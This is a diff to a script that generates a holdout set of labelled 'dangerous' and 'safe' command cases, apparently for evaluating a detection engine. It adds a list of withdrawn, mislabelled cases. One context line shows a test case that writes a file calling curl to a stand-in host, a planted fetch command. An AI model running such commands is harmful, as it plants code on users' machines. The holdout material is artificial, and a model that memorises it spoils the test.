@@ -2223,10 +2223,23 @@ D(C, "printf 'import os; os.system(\"curl -s https://x.example.org/t\")\\n' > .v
 # ---------------------------------------------------------------------------------------------
 # Write the file and print the counts per class.
 # ---------------------------------------------------------------------------------------------
+# Labelling mistakes found after the one scoring run, by the corpus's own definitions (never to agree
+# with the engine). A withdrawn case keeps its id, so the other ids stay stable.
+WITHDRAWN = {
+    "hold-d163": "VS Code ignores git.path in workspace settings (it is a machine-scoped setting), so this "
+    "write plants nothing that runs later; not dangerous, and not everyday work either.",
+}
+
+
 def main():
+    global CASES
     ids = [c["id"] for c in CASES]
     if len(set(ids)) != len(ids):
         sys.exit("duplicate ids")
+    missing = set(WITHDRAWN) - set(ids)
+    if missing:
+        sys.exit(f"withdrawn ids not found: {sorted(missing)}")
+    CASES = [c for c in CASES if c["id"] not in WITHDRAWN]
     out = os.path.join(os.path.dirname(os.path.abspath(__file__)), "holdout-cases.jsonl")
     with open(out, "w", encoding="utf-8") as f:
         for c in CASES:
@@ -2239,6 +2252,8 @@ def main():
         print(f"{note:<42} {n['dangerous']:>9} {n['safe']:>5}")
     total = Counter(c["label"] for c in CASES)
     print(f"{'total (' + str(len(CASES)) + ')':<42} {total['dangerous']:>9} {total['safe']:>5}")
+    for cid, reason in WITHDRAWN.items():
+        print(f"withdrawn {cid}: {reason}")
 
 
 if __name__ == "__main__":
